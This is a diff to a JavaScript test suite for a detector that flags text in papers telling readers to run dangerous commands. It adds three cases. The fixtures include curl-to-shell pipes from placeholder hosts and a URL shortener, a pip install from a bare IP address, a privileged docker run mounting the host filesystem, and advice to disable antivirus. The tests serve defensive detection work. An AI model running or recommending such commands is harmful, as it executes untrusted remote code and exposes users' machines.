@@ -24,6 +24,9 @@ describe('what a paper tells its reader to run', () => {
     ['a command in a cell', fenced('python', '!curl -s http://tools.invalid/a | bash', 'from kit import m')],
     ['a step', '  1. Open a terminal\n  2. Paste:  curl http://tools.invalid/i | sh\n'],
     ['a sentence', 'Then run `curl http://tools.invalid/i | sh` as root.'],
+    ['a package in a sentence', 'Run `pip install git+http://203.0.113.9/x.git` first.'],
+    ['a short address', fenced('bash', 'curl -sL https://tinyurl.com/abc | bash')],
+    ['a container that holds the machine', fenced('sh', 'docker run --rm --privileged -v /:/host x/y')],
     ['unguarded', 'Turn off your antivirus and start it. The password of the archive is 1234.'],
   ])('is told: %s', (_, text) => {
     expect(toldToRun(text)).not.toBeNull();
